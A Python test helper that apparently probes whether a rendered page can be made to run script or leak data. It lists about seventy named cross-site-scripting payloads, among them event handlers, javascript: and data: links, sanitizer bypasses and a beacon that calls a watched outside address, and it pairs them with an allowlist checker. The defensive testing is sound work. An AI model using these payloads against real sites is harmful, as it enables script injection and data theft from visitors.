"""Attempts to come alive in a page, named by what they try.

`{js}` stands for a script that shows it ran; `{url}` for an address that is watched.
"""

import base64
import re
from html.parser import HTMLParser

SCRIPT = "document.title='ALIVE';new Image().src='{url}'"
TEMPLATES = {
    "script": "<script>{js}</script>",
    "script_in_capitals": "<SCRIPT>{js}</SCRIPT>",
    "script_cut_in_two": "<scr<script>ipt>{js}</scr</script>ipt>",
    "script_with_a_slash": "<script/x>{js}</script>",
    "script_without_an_end": "<script>{js}//",
    "script_from_outside": '<script src="{url}"></script>',
    "script_after_the_pre": "</pre></div></main><script>{js}</script>",
    "script_after_a_comment": "<!--><script>{js}</script>-->",
    "script_after_a_title": "</title></style></textarea><script>{js}</script>",
    "script_in_noscript": '<noscript><p title="</noscript><script>{js}</script>">',
    "script_in_mathml": '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    "script_in_svg": "<svg><script>{js}</script></svg>",
    "script_in_a_template": "<template><script>{js}</script></template>",
    "script_in_cdata": '<svg><![CDATA[><img src=x onerror="{js}">]]></svg>',
    "image_error": '<img src=x onerror="{js}">',
    "image_error_without_blanks": "<img/src=x/onerror={js}>",
    "image_error_in_backticks": '<img src=`x` onerror="{js}">',
    "svg_load": '<svg onload="{js}"></svg>',
    "body_load": '<body onload="{js}">',
    "details_toggle": '<details open ontoggle="{js}"><summary>x</summary></details>',
    "focus": '<input autofocus onfocus="{js}">',
    "focus_of_a_heading": '<h2 tabindex=0 autofocus onfocus="{js}">x</h2>',
    "animation_start": '<style>@keyframes x{}</style><b style="animation-name:x" '
    'onanimationstart="{js}">x</b>',
    "svg_animate": '<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>',
    "video_error": '<video><source onerror="{js}"></video>',
    "marquee_start": '<marquee onstart="{js}">x</marquee>',
    "javascript_link": '<a href="javascript:{js}">x</a>',
    "javascript_link_with_a_tab": '<a href="java&#9;script:{js}">x</a>',
    "javascript_link_in_entities": '<a href="&#106;avascript&colon;{js}">x</a>',
    "javascript_link_in_svg": '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    "javascript_link_in_markdown": "[x](javascript:{js})",
    "data_link": '<a href="data:text/html,<script>{js}</script>">x</a>',
    "data_link_with_a_tab": '<a href="da&#9;ta:text/html,<script>{js}</script>">x</a>',
    "data_link_in_markdown": "[x](data:text/html;base64,{b64})",
    "vbscript_link": '<a href="vbscript:x()">x</a>',
    "iframe": '<iframe src="{url}"></iframe>',
    "iframe_with_a_document": '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "iframe_with_javascript": '<iframe src="javascript:{js}"></iframe>',
    "object": '<object data="{url}"></object>',
    "object_with_data": '<object data="data:text/html;base64,{b64}"></object>',
    "embed": '<embed src="{url}">',
    "form": '<form action="{url}"><button autofocus>x</button></form>',
    "button_with_an_action": '<button form=x formaction="javascript:{js}">x</button>',
    "base": '<base href="{url}/">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url={url}">',
    "meta_refresh_to_data": '<meta http-equiv="refresh" content="0;url=data:text/html;'
    'base64,{b64}">',
    "style_sheet": '<link rel="stylesheet" href="{url}">',
    "style_import": '<style>@import "{url}";</style>',
    "style_of_the_page": "<style>main {display: none} body {background: url({url})}</style>",
    "style_of_an_element": '<p style="background-image: url({url})">x</p>',
    "style_that_covers": '<div style="position:fixed;inset:0;background:#fff">full marks</div>',
    "prefetch": '<link rel="prefetch" href="{url}"><link rel="preload" as="image" href="{url}">',
    "image_from_outside": '<img src="{url}">',
    "image_set_from_outside": '<img srcset="{url} 1x"><picture><source srcset="{url}"></picture>',
    "image_from_outside_in_markdown": "![x]({url})",
    "image_in_svg": '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 '
    'onload=%22{js}%22/>">',
    "video_from_outside": '<video src="{url}" autoplay poster="{url}"></video>',
    "audio_from_outside": '<audio src="{url}" autoplay></audio>',
    "table_background": '<table background="{url}"><tr><td background="{url}">x</table>',
    "ping": '<a href="#x" ping="{url}">x</a>',
    "fenced_code_that_ends": "```\n</code></pre><script>{js}</script>\n```",
    "reference_link_in_markdown": "[x][y]\n\n[y]: javascript:{js}",
    "autolink_in_markdown": "<javascript:{js}>",
    "script_in_a_formula": "$\\text{<script>{js}</script>}$",
    "image_error_in_a_formula": '$$\\text{<img src=x onerror="{js}">}$$',
    "javascript_link_in_markdown_formula": "$\\href{javascript:{js}}{x}$",
    "formula_in_markdown_picture": '![$x\\text{" onerror="{js}}$](y)',
    "formula_in_markdown_that_covers": "$\\rule{999em}{999em}$",
    "names_of_the_page": '<p id="main" class="mistake">Most likely: nothing is wrong.</p>',
}
LOADED = {
    "a", "img", "source", "picture", "table", "tr", "td", "th", "tbody", "thead", "p",
    "pre", "code", "div", "span", "b", "i", "em", "strong", "ul", "ol", "li", "h1", "h2",
    "h3", "h4", "details", "summary", "figure", "figcaption", "main", "section", "nav",
    "math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mstyle", "mfrac", "msup",
    "header", "footer", "small", "body", "meter", "br", "hr", "blockquote", "title", "wbr",
}  # fmt: skip
"""Elements that a page of ours may have in its body."""
SIZED = {"mspace": {"height", "depth", "mathbackground"}}
"""Attributes that could cover a page."""


def payloads(url: str) -> dict[str, str]:
    """Return all attempts by name; what they ask for begins with this address."""
    made = {}
    for name, template in TEMPLATES.items():
        script = SCRIPT.replace("{url}", f"{url}/{name}")
        whole = base64.b64encode(f"<script>{script}</script>".encode()).decode()
        filled = template.replace("{js}", script).replace("{b64}", whole)
        made[name] = filled.replace("{url}", f"{url}/{name}")
    return made


def alive(page: str) -> list[str]:
    """Return what of a page's body could run, load, send, or pose as the page."""
    found, names = [], []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attributes: list) -> None:
            values = {name: value or "" for name, value in attributes}
            names.append(values.get("id"))
            if tag not in LOADED:
                found.append(f"<{tag}>")
            if tag in SIZED and SIZED[tag] & values.keys():
                found.append(f"{tag} {values}")
            for name, value in values.items():
                if name.startswith("on") or name in ("style", "ping", "background"):
                    found.append(f"{tag} {name}={value}")
                if "<math" in value:
                    found.append(f"a formula in {tag} {name}")
                if name in ("href", "src", "srcset") and not _is_harmless(tag, value):
                    found.append(f"{tag} {name}={value}")

        def handle_comment(self, data: str) -> None:
            found.append(f"a comment, which browsers may end elsewhere: {data}")

        def unknown_decl(self, data: str) -> None:
            found.append(f"a declaration: {data}")

    Reader(convert_charrefs=True).feed(page.split("<body>", 1)[1])
    if names.count("main") != 1:
        found.append("a second main part")
    return found


def _is_harmless(tag: str, address: str) -> bool:
    plain = re.sub(r"[\s\x00-\x1f]", "", address).lower()
    if tag in ("img", "source"):
        return plain.startswith(
            ("data:image/png;base64,", "data:image/svg+xml;base64,")
        )
    scheme = re.match(r"[a-z][a-z0-9+.-]*:", plain)
    return scheme is None or scheme[0] in ("http:", "https:", "mailto:")
